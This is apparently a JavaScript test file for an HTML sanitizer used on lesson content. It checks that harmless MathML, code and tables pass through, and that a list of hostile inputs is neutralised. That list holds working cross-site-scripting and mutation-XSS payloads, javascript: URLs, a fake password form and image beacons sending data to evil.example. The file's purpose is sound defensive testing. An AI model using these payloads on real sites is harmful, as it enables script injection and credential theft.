import { sanitizeLesson } from './lesson-html.ts';

const WHOLE = [
  '<p>Then <math alttext="x^2"><msup><mi>x</mi><mn>2</mn></msup></math> grows.</p>',
  '<math display="block"><mtable displaystyle="true"><mtr><mtd class="tml-right"><mi>a</mi></mtd><mtd class="tml-left"><mrow><mo>=</mo><mfrac><mi>b</mi><mn>2</mn></mfrac></mrow></mtd></mtr></mtable></math>',
  '<pre><code class="language-python"><span class="hljs-keyword">def</span> f</code></pre>',
  '<table><thead><tr><th align="right">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
  '<a href="https://example.org" rel="noopener noreferrer nofollow ugc" target="_blank">x</a>',
  '<p dir="auto">عربي 日本語</p>',
];

test.each(WHOLE)('STU-11 what the server let through is shown: %s', (html) => {
  const withoutAlternative = html.replace(/ alttext="[^"]*"/, '');
  expect(sanitizeLesson(html)).toBe(withoutAlternative);
});

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onpointerenter', 'onbeforetoggle'];
const TAGS = ['img', 'svg', 'math', 'mtext', 'a', 'p', 'iframe', 'input', 'video', 'details', 'td', 'mi', 'span'];
const HOSTILE = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=alert(1) src=x autofocus>x</${tag}>`)),
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<mi><li><table>text<mi><malignmark><style><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a><a href="data:text/html,x">x</a><a href="//evil.example">x</a><a href="http://evil.example">x</a><a href="/\\evil.example">x</a><a href="\\\\evil.example">x</a>',
  '<p style="position:fixed;inset:0">x</p><form action="https://evil.example"><input type=password></form>',
  '<img src="https://evil.example/?leak=1"><picture><source srcset="https://evil.example"></picture><video poster="https://evil.example">',
  '<p id="root" name="body">x</p><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="javascript:alert(1)"></object><embed src="x">',
];

test(`CRS-13 none of ${HOSTILE.length} hostile texts does anything on the page`, () => {
  for (const html of HOSTILE) {
    const page = document.createElement('main');
    page.innerHTML = sanitizeLesson(html);
    const elements = [...page.querySelectorAll('*')];
    const dangerous = elements.filter(({ tagName, attributes }) => {
      const names = [...attributes].map(({ name }) => name);
      const bad = names.some((name) => /^on|^style$|^id$|^name$|^src|^poster$|^action$/.test(name));
      return bad || /^(script|style|img|svg|iframe|object|embed|form|input|video|link|base|source)$/i.test(tagName);
    });
    const links = elements.flatMap((element) => element.getAttribute('href') ?? []);
    expect({ html, dangerous: dangerous.map(({ outerHTML }) => outerHTML) }).toEqual({ html, dangerous: [] });
    expect(links.filter((link) => !link.startsWith('https:'))).toEqual([]);
  }
});
